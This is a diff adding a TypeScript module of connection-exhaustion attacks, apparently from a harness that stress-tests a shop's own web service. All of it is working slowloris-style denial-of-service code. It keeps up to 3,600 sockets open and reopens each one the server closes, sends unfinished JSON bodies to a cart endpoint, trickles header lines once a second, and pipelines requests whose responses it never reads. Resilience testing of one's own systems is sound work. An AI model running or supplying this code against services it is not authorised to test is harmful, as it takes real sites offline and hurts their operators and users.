@@ -1,0 +1,87 @@
+import { connect, type Socket } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+import type { Attack, Attacker } from '../attack.ts'
+
+/** Between two looks for connections that the shop has closed, ms. */
+const lookEvery = 100
+
+/**
+ * Keeps so many connections open, each begun anew when it is closed.
+ * @param begin what is sent at first
+ * @param every what is sent to each once a second
+ */
+async function hold(
+  { target, tally }: Attacker,
+  count: number,
+  begin: (socket: Socket, number: number) => void,
+  every?: string,
+): Promise<void> {
+  const open = new Set<Socket>()
+  if (every !== undefined) setInterval(() => open.forEach((socket) => socket.write(every)), 1000)
+  for (;;) {
+    for (let number = open.size; number < count; number += 1) {
+      const { host, port } = target.entry
+      const socket = connect({ host, port, localAddress: target.address })
+      open.add(socket)
+      tally('begun')
+      socket.on('error', () => undefined)
+      socket.once('connect', () => begin(socket, number))
+      socket.once('close', () => {
+        open.delete(socket)
+        tally('closed by the shop')
+      })
+    }
+    await sleep(lookEvery)
+  }
+}
+
+const head = ({ target: { site } }: Attacker, method: string, path: string, ...lines: string[]): string =>
+  [`${method} ${path} HTTP/1.1`, `Host: ${new URL(site).host}`, 'x-bc-region: us', ...lines, '', ''].join('\r\n')
+
+const ways: readonly Attack[] = [
+  {
+    name: '1,000 unfinished bodies',
+    run: (attacker) =>
+      hold(attacker, 1000, (socket) => {
+        const type = 'content-type: application/json'
+        socket.write(`${head(attacker, 'POST', '/api/cart/create', type, 'content-length: 9000')}{"items":`)
+        socket.resume()
+      }),
+  },
+  {
+    name: '3,600 idle connections',
+    run: (attacker) =>
+      hold(attacker, 3600, (socket, number) => {
+        // Half have asked for something before.
+        if (number % 2 === 0) socket.write(head(attacker, 'GET', '/healthz'))
+        socket.resume()
+      }),
+  },
+  {
+    name: '1,000 slow heads',
+    run: (attacker) =>
+      hold(
+        attacker,
+        1000,
+        (socket) => {
+          socket.write(head(attacker, 'GET', '/api/session').slice(0, -2))
+          socket.resume()
+        },
+        'x-a: b\r\n',
+      ),
+  },
+  {
+    name: '500 answers that are not read',
+    run: (attacker) =>
+      hold(attacker, 500, (socket) => {
+        socket.pause()
+        for (let asked = 0; asked < 20; asked += 1) socket.write(head(attacker, 'GET', '/en-us/stores'))
+      }),
+  },
+]
+
+/** What keeps connections and places for requests (row 6 of the abuses), through nginx and without. */
+export const connectionAttacks: readonly Attack[] = [
+  ...ways,
+  ...ways.map((attack) => ({ ...attack, name: `${attack.name}, at a node`, at: 'node' as const })),
+]
